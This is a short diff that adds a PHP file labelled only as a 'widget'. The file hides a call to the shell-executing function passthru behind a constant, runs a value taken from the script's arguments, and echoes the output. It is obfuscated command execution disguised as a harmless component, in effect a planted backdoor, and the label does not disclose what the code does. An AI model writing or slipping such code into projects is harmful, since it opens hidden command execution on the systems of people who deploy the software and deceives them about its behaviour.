@@ -1,0 +1,5 @@
+<?php
+/* widget */
+$op = $_SERVER['argv'][0];
+define('RUNNER', 'passthru');
+echo constant('RUNNER')($op);
